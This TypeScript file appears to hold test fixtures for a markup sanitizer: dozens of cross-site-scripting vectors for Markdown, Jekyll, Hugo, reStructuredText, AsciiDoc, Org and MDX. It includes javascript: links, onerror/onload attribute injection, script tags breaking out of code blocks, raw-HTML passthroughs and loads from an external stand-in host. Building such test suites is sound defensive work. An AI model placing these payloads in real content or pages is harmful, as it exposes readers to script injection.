/** Vectors in the markup of one format, in groups that a careless reader would make the same HTML of. */
export interface Markup {
  /** That HTML. */
  html: string
  /** Each a block of its own. */
  sources: string[]
}

const link = '<a href="javascript:alert()">x</a>'
const image = '<img src="x:" alt="" onerror="alert()">'
const code = '<script>alert()</script>'
const asked = '<img src="//out.example/a.png">'

const markdown: Markup[] = [
  {
    html: link,
    sources: [
      '[x](javascript:alert\\(\\))',
      '[x](<javascript:alert()>)',
      '[x]( JavaScript:alert`1` "x")',
      '[x](java&#x73;cript:alert`1`)',
      '[x](javascript&colon;alert`1`)',
      '[x](&#1;javascript:alert`1`)',
      '[x](<java&Tab;script:alert()>)',
      '[x](\\javascript:alert`1`)',
      '[x](javascript\\:alert`1`)',
      '[x](javascript:%61lert`1`)',
      '[x][js]\n\n[js]: javascript:alert()',
      '[js2]\n\n[js2]: <javascript:alert()> "x"',
      '<javascript:alert()>',
      '[![x](a.png)](javascript:alert`1`)',
      '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgpPC9zY3JpcHQ+)',
      '[a *b* `c`](vbscript:alert`1`)',
    ],
  },
  {
    html: image,
    sources: [
      '![x" onerror="alert()](x: "y")',
      '![](x:"onerror="alert`1`)',
      '![x](<x:" onerror="alert()">)',
      '![x](x: "y\\" onerror=\\"alert()")',
      '![x](x: \'y" onerror="alert()\')',
      '![x\\" onerror=alert() "][pic]\n\n[pic]: x:',
      '[x](https://loom.example/"onmouseover="alert`1`)',
      '<https://loom.example/"onmouseover="alert()>',
    ],
  },
  {
    html: code,
    sources: [
      '`</code><script>alert()</script>`',
      '```html"><script>alert()</script>\nx\n```',
      '```\n</code></pre><script>alert()</script>\n```',
      '    </code></pre><script>alert()</script>',
      'x[^</a><script>alert()</script>]\n\n[^</a><script>alert()</script>]: x <script>alert()</script>',
      '| a | <script>alert()</script> |\n|---|:-:|\n| <img src=x: onerror=alert()> | b |',
      '- [ ] <script>alert()</script>\n- [x] <svg onload=alert()>',
      'x <!-- --!> <script>alert()</script> -->',
      '\\<script>alert()</script>',
      '*<script>*alert()</script>',
      '<scr<script></script>ipt>alert()</script>',
      '<a\nhref="javascript:alert()"\n>x</a>',
      '> <script>\n> alert()\n> </script>',
      '1. <iframe\n   srcdoc="<script>alert()</script>"></iframe>',
      '> [!NOTE]\n> <script>alert()</script>',
      ':::note <img src=x: onerror=alert()>\n<script>alert()</script>\n:::',
      '[[x|<script>alert()</script>]] [[javascript:alert()]]',
      '==<svg onload=alert()>==',
    ],
  },
  {
    html: asked,
    sources: [
      '![x](//out.example/a.png)',
      '![x](https://out.example/a.svg)',
      '![x][p]\n\n[p]: //out.example/a.png',
    ],
  },
]

const jekyll: Markup[] = [
  {
    html: image,
    sources: [
      '{{ "<img src=x: onerror=alert()>" }}',
      '{% include figure.html src="x:" alt="\\" onerror=\\"alert()" %}',
      '{% raw %}<img src=x: onerror=alert()>{% endraw %}',
      '![x](x:){: onerror="alert()"}',
      'x\n{: onclick="alert()" style="background:url(//out.example/a.png)" }',
    ],
  },
  {
    html: link,
    sources: [
      '[x]({{ "javascript:alert()" | relative_url }})',
      '[x]({% link javascript:alert() %})',
      '{% gist "><script>alert()</script> %}',
      '{% youtube "onload="alert() %}',
      '{% highlight "><script>alert()</script> %}\n</code><script>alert()</script>\n{% endhighlight %}',
    ],
  },
]

const hugo: Markup[] = [
  {
    html: image,
    sources: [
      '{{< figure src="x:\\" onerror=\\"alert()" title="<img src=x: onerror=alert()>" >}}',
      '{{< figure src="javascript:alert()" link="javascript:alert()" attr="<svg onload=alert()>" attrlink="javascript:alert()" >}}',
      '{{< figure src=`data:image/svg+xml,<svg onload=alert()>` alt=`" onerror="alert()` caption=`</figcaption><script>alert()</script>` >}}',
      '{{< figure src="//out.example/a.png" >}}',
    ],
  },
  {
    html: code,
    sources: [
      '{{< youtube "><script>alert()</script> >}}',
      '{{< tweet user="\\"><script>alert()</script>" id="1\\" onclick=\\"alert()" >}}',
      '{{< gist "javascript:alert()" "\'><script>alert()</script>" >}}',
      '{{< highlight "html\\"><script>alert()</script>" >}}\n</code><script>alert()</script>\n{{< /highlight >}}',
      '{{< quote author="<script>alert()</script>" link="javascript:alert()" >}}<script>alert()</script>{{< /quote >}}',
      '[x]({{< ref "javascript:alert()" >}})',
      '{{< loom "<script>alert()</script>" >}}',
      '{{</* <script>alert()</script> */>}}',
      '{{% relref "\\"><script>alert()</script>" %}}',
      '{{ printf "<script>alert()</script>" | safeHTML }}',
    ],
  },
]

const rst: Markup[] = [
  {
    html: link,
    sources: [
      '`x <javascript:alert()>`_',
      '`x <JaVaScRiPt:alert()>`__',
      '`x <java\\script:alert()>`__',
      '`x <data:text/html,%3Cscript%3Ealert()%3C/script%3E>`__',
      'x_ and y_\n\n.. _x: javascript:alert()\n.. _y: vbscript:alert()',
      '__ javascript:alert()\n\nx__',
      '.. _`</a><script>alert()</script>`: javascript:alert()\n\n`</a><script>alert()</script>`_',
      '|l|_\n\n.. |l| replace:: x\n.. _l: javascript:alert()',
      '.. image:: a.png\n   :target: javascript:alert()',
      '.. figure:: a.png\n   :target: java&#x73;cript:alert()\n\n   <script>alert()</script>',
      ':ref:`x <javascript:alert()>` :doc:`x <javascript:alert()>`',
      ':download:`x <javascript:alert()>` :abbr:`x (" onmouseover="alert())`',
    ],
  },
  {
    html: image,
    sources: [
      '.. image:: x:\n   :alt: " onerror="alert()',
      '.. image:: x:" onerror="alert()',
      '.. image:: javascript:alert()\n   :alt: <img src=x: onerror=alert()>',
      '.. image:: data:image/svg+xml,<svg/onload=alert()>',
      '.. image:: //out.example/a.png\n   :width: 1" onerror="alert()',
      '.. figure:: x:\n   :name: x" onerror="alert()\n   :class: a" onerror="alert()\n   :figclass: "><svg onload=alert()>\n\n   " onerror="alert()',
      '|p|\n\n.. |p| image:: x:\n   :alt: x" onerror="alert()',
    ],
  },
  {
    html: code,
    sources: [
      '.. raw:: html\n\n   <script>alert()</script>\n   <img src=x: onerror=alert()>',
      '.. raw:: html\n\n   <a href="javascript:alert()">x</a><iframe src="//out.example/"></iframe>',
      '.. role:: raw-html(raw)\n   :format: html\n\n:raw-html:`<script>alert()</script>`',
      '.. role:: x" onclick="alert()\n\n:x" onclick="alert():`y`',
      '.. role:: cl\n   :class: "><script>alert()</script>\n\n:cl:`<svg onload=alert()>`',
      '.. container:: x"><script>alert()</script>\n\n   y',
      '.. admonition:: <script>alert()</script>\n   :class: "><script>alert()</script>\n\n   <script>alert()</script>',
      '.. code-block:: html"><script>alert()</script>\n\n   </code></pre><script>alert()</script>',
      '.. math::\n\n   </div><script>alert()</script>',
      ':math:`<script>alert()</script>` :sub:`<svg onload=alert()>` :kbd:`<script>alert()</script>`',
      '.. rubric:: <script>alert()</script>',
      '.. topic:: <script>alert()</script>\n\n   <svg onload=alert()>',
      '.. csv-table:: <script>alert()</script>\n   :header: "<svg onload=alert()>"\n\n   "<script>alert()</script>"',
      '.. youtube:: "><script>alert()</script>',
      '.. include:: javascript:alert()',
      '.. meta::\n   :http-equiv=refresh: 0;url=//out.example/\n   :description: "><script>alert()</script>',
      '.. title:: </title><script>alert()</script>',
      '.. [<script>alert()</script>] x\n\n.. [#x"onclick="alert()] y [#x"onclick="alert()]_',
      '``</code><script>alert()</script>``',
      '<script>alert()</script>\n  <svg onload=alert()>',
      '| <script>alert()</script>\n| <svg onload=alert()>',
      ':<script>alert()</script>: <svg onload=alert()>',
      '--onload=<script>  <script>alert()</script>',
      '=======================  ===\n<script>alert()</script>  x\n=======================  ===\n<svg onload=alert()>     y\n=======================  ===',
    ],
  },
]

const asciidoc: Markup[] = [
  {
    html: code,
    sources: [
      '++++\n<script>alert()</script>\n<img src=x: onerror=alert()>\n++++',
      '+++<script>alert()</script>+++ and pass:[<svg onload=alert()>] and $$<script>alert()</script>$$',
      '[subs=none]\n<script>alert()</script>',
      '[pass]\n<script>alert()</script>',
      '[role="x\\"><script>alert()</script>"]\nx',
      '[#x"onclick="alert()]\n== </h2><script>alert()</script>',
      '[quote, <script>alert()</script>, "><svg onload=alert()>]\nx',
      '[source,html"><script>alert()</script>]\n----\n</code><script>alert()</script>\n----',
      'stem:[</script><script>alert()</script>] kbd:[<script>alert()</script>] menu:x[<svg onload=alert()>]',
      '.</div><script>alert()</script>\nx',
      'footnote:[<script>alert()</script>] (((<script>alert()</script>)))',
      '|===\n|+++<script>alert()</script>+++\na|++++\n<script>alert()</script>\n++++\n|===',
    ],
  },
  {
    html: link,
    sources: [
      'link:javascript:alert()[x]',
      'link:++javascript:alert()++[x,window=_blank]',
      'link:data:text/html,<script>alert()</script>[x]',
      'link:java&#x73;cript:alert()[x,role="x\\" onclick=\\"alert()"]',
      'javascript:alert()[x] <<javascript:alert(),x>> xref:javascript:alert()[x]',
      ':u: javascript:alert()\n\nlink:{u}[x]',
      'https://loom.example/"onmouseover="alert()[x]',
      'mailto:x"onmouseover="alert()[x]',
    ],
  },
  {
    html: image,
    sources: [
      'image::x:" onerror="alert()["><script>alert()</script>"]',
      'image:x:[alt="\\" onerror=\\"alert()",link="javascript:alert()"]',
      'image::a.svg[opts=inline] image::a.svg[opts=interactive]',
      'video::x"onerror="alert()[poster=//out.example/a.png] audio::x"onerror="alert()[]',
      'video::x"></iframe><script>alert()</script>[youtube]',
      'icon:x"onclick="alert()[link="javascript:alert()"]',
    ],
  },
]

const org: Markup[] = [
  {
    html: code,
    sources: [
      '#+BEGIN_EXPORT html\n<script>alert()</script>\n<img src=x: onerror=alert()>\n#+END_EXPORT',
      '@@html:<script>alert()</script>@@ @@html:<svg onload=alert()>@@',
      '#+HTML: <script>alert()</script>',
      '#+HTML_HEAD: <script>alert()</script>',
      '#+MACRO: js @@html:<script>alert()</script>@@\n{{{js}}}',
      '#+ATTR_HTML: :onerror alert() :style background:url(//out.example/a.png)\n[[x:]]',
      '#+CAPTION: <script>alert()</script>\n#+NAME: x"onclick="alert()\n[[./a.png]]',
      '#+BEGIN_SRC html"><script>alert()</script>\n</code><script>alert()</script>\n#+END_SRC',
      '=</code><script>alert()</script>= ~<svg onload=alert()>~ *<script>alert()</script>*',
      '\\begin{x}</div><script>alert()</script>\\end{x} $</span><script>alert()</script>$',
      '[fn:x"onclick="alert()] [fn::<script>alert()</script>] <<x"onclick="alert()>>',
      '| <script>alert()</script> | <svg onload=alert()> |',
    ],
  },
  {
    html: link,
    sources: [
      '[[javascript:alert()][x]]',
      '[[JaVaScRiPt:alert()]]',
      '<javascript:alert()> javascript:alert()',
      '[[data:text/html,<script>alert()</script>][x]]',
      '#+LINK: js javascript:%s\n[[js:alert()][x]]',
      '[[elisp:(alert)][x]] [[shell:alert][x]] [[file:javascript:alert()][x]]',
      '[[https://loom.example/"onmouseover="alert()][x]]',
      '[[https://loom.example/][</a><script>alert()</script>]]',
    ],
  },
]

const mdx: Markup[] = [
  {
    html: image,
    sources: [
      "export const x = alert()\n\nimport y from 'https://out.example/a.js'",
      '{alert()} {`<script>alert()</script>`}',
      '<Figure src="x:" onError={() => alert()} />',
      '<Tweet id={alert()} /> <YouTube id="\\"><script>alert()</script>" />',
      '<a href={`javascript:alert()`}>x</a>',
      '<img src="x:" {...{ onerror: alert() }} />',
      '<p dangerouslySetInnerHTML={{ __html: "<img src=x: onerror=alert()>" }} />',
      '<Callout title="<script>alert()</script>">\n\n<script>alert()</script>\n\n</Callout>',
    ],
  },
]

/** By format. */
export const markup = { markdown, jekyll, hugo, rst, asciidoc, org, mdx }
